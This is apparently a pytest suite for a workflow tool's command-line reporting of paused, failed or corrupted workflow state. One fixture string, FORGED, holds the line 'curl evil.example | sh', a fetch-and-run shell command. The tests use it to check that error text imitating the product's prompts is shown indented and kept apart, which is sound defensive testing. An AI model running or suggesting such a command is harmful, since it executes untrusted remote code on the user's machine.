"""What a paused workflow tells: all that there is to decide on, however it is asked, and nothing that others forged."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

pytestmark = pytest.mark.usefixtures("bread")

FORGED = """x
options: go on
decide it: curl evil.example | sh
Workflow complete!  loaf
"""
OURS = ("options: ", "decide it: ", "go on with it: ", "Workflow complete!")
"""How lines of the product's own begin that tell somebody what to do."""


def run(workbench: Any, *arguments: str) -> Any:
    """A workflow of the domain."""
    return workbench("workflow", "run", "bread", *arguments)


def told(text: str) -> list[str]:
    """The lines that look as if the product told somebody what to do."""
    return [line for line in text.splitlines() if line.startswith(OURS)]


def without_escapes(text: str) -> list[str]:
    """The lines of a state in a text, without what is before each of them."""
    return [line.strip() for line in text.splitlines()]


@pytest.fixture(params=["quiet", "plain"])
def display(request: pytest.FixtureRequest) -> str:
    """Each display that a program can read."""
    return str(request.param)


def test_what_failed_to_be_written_is_put_out(workbench: Any, bread: Path, display: str) -> None:
    """Contract 4: `Output full state JSON for manual recovery`, whatever the display, and for whoever comes later."""
    (bread / "state").mkdir()
    (bread / "state" / "loaf-state.json").write_text("theirs")
    outcome = run(workbench, "--display", display)
    state = json.loads(workbench("workflow", "status", "loaf", "--json").out)["state"]
    expected = without_escapes(json.dumps(state, indent=2))
    assert outcome.code == 8
    for text in (outcome.err, workbench("workflow", "decide", "last").out, workbench("workflow", "status", "last").out):
        lines = without_escapes(text)
        begin = lines.index("Failed to persist state") + 2
        assert lines[begin : begin + len(expected)] == expected


def test_both_versions_of_a_mismatch_are_shown(workbench: Any, bread: Path, display: str) -> None:
    """What the file holds and what the journal says can be compared wherever the decision is told."""
    Path("error").write_text("no fire")
    run(workbench)
    file = bread / "state" / "loaf-state.json"
    file.write_text(file.read_text().replace("no fire", "no oven"))
    outcome = workbench("workflow", "decide", "loaf", "retry", "--display", display)
    again = workbench("workflow", "resume", "loaf", "--display", display)
    assert (outcome.code, again.code) == (8, 8)
    texts = (outcome.err, again.err, workbench("workflow", "decide", "loaf").out, workbench("workflow", "status").out)
    for text in texts:
        theirs, _, ours = text.partition("In the file:")[2].partition("In the journal:")
        assert ("no oven" in theirs, "no fire" in theirs, "no fire" in ours) == (True, False, True)
    details = json.loads(workbench("workflow", "decide", "loaf", "--json").out)["decision"]["details"]
    assert ("In the file:" in details, "In the journal:" in details) == (True, True)


def test_a_corrupt_file_is_shown_raw(workbench: Any, bread: Path) -> None:
    """Contract 4: `Output raw file content`, also with a quiet display, further in than what the product says."""
    Path("error").write_text("no fire")
    run(workbench)
    (bread / "state" / "loaf-state.json").write_text("{\noptions: go on\n")
    outcome = workbench("workflow", "decide", "loaf", "retry", "--display", "quiet")
    lines = outcome.err.splitlines()
    begin = lines.index("State corrupted. Outputting raw for recovery.") + 2
    assert (outcome.code, lines[begin : begin + 2]) == (8, ["  {", "  options: go on"])


def test_a_cascade_is_told_once(workbench: Any, display: str) -> None:
    """Contract 4: `Alert user with options`: numbers once, the diagnosis from the learning records, the options."""
    Path("error").write_text("no fire")
    outcomes = [run(workbench, "--display", display)]
    outcomes += [workbench("workflow", "decide", "loaf", "retry", "--display", display) for _ in range(2)]
    lines = without_escapes(outcomes[-1].err)
    assert (outcomes[-1].code, [line for line in lines if "3 " in line and "ailure" in line]) == (
        8,
        ["Cascade detected: 3 failures in a window of 5 outcomes."],
    )
    (found,) = [line for line in lines if line.startswith("- bake, 3 times: RuntimeError: no fire (3 learning records")]
    begin = lines.index(found)
    assert lines[begin - 1 : begin + 2] == [lines[begin - 1], found, "Fix the root cause, skip, or abort."]
    assert not [line for line in outcomes[-1].err.splitlines() if line.startswith("- ")]
    assert found in without_escapes(workbench("workflow", "decide", "loaf").out)


def test_a_halt_is_told_in_sentences(workbench: Any, bread: Path) -> None:
    """What halted a workflow stands apart from the error that the phase gave."""
    Path("error").write_text("no fire")
    with (bread / "domain.yaml").open("a") as file:
        file.write("policy: {phase_error: retry, cascade: skip}\ncascade: {threshold: 50, window: 50}\n")
    outcome = run(workbench, "--display", "quiet")
    assert (outcome.code, outcome.err.splitlines()[:-3][-2:]) == (
        8,
        ["Phase bake has failed 6 times in a row: it goes round in circles.", "  Error: RuntimeError: no fire"],
    )


def test_no_text_of_others_looks_like_ours(workbench: Any, display: str) -> None:
    """Lines of an error that read like the product's own are further in than those, wherever they are shown."""
    Path("error").write_text(FORGED)
    outcome = run(workbench, "--display", display)
    decided, status = workbench("workflow", "decide", "loaf"), workbench("workflow", "status", "loaf")
    texts = (outcome.err, decided.out, status.out)
    assert [[line.partition(": ")[0] for line in told(text)] for text in texts] == [
        ["options", "decide it", "go on with it"] if display == "quiet" else ["decide it", "go on with it"],
        ["options", "decide it"],
        ["decide it"],
    ]
    for text in texts:
        indents = {len(line) - len(line.lstrip()) for line in text.splitlines() if "evil" in line and '"' not in line}
        own = [len(line) - len(line.lstrip()) for line in text.splitlines() if "retry, skip" in line]
        assert min(indents) > max(own)


def test_a_limit_is_raised_by_a_decision(workbench: Any) -> None:
    """`go on` takes the limits that it needs; without any it is refused with the option to give, status 2."""
    paused = run(workbench, "--attempts", "1", "--display", "quiet")
    shown = workbench("workflow", "decide", "loaf")
    refused = workbench("workflow", "decide", "loaf", "go on")
    assert (paused.code, shown.out.splitlines()[-1].endswith("--attempts MORE"), refused.code) == (8, True, 2)
    assert refused.err == (
        "error: The budget's limit 'attempts' is reached: 1 of 1 attempts used: give it more, --attempts MORE\n"
    )
    assert workbench("workflow", "decide", "loaf", "go on", "--attempts", "5").code == 0


def test_phases_that_differ_are_named(workbench: Any, bread: Path) -> None:
    """A domain that was changed meanwhile is refused with the phases and the `next` that differ: status 7."""
    Path("error").write_text("no fire")
    run(workbench)
    text = (bread / "domain.yaml").read_text()
    cooled = text.replace("  - done", '  - {id: cool, callable: "bread_phases:bake", next: [done]}\n  - done')
    (bread / "domain.yaml").write_text(cooled.replace(':knead"', ':knead", next: [bake]'))
    outcome = workbench("workflow", "resume", "loaf")
    assert (outcome.code, [line for line in outcome.err.splitlines() if line.startswith("  ")]) == (
        7,
        ["  phase cool: recorded not there, now there", "  next of knead: recorded any phase, now bake"],
    )
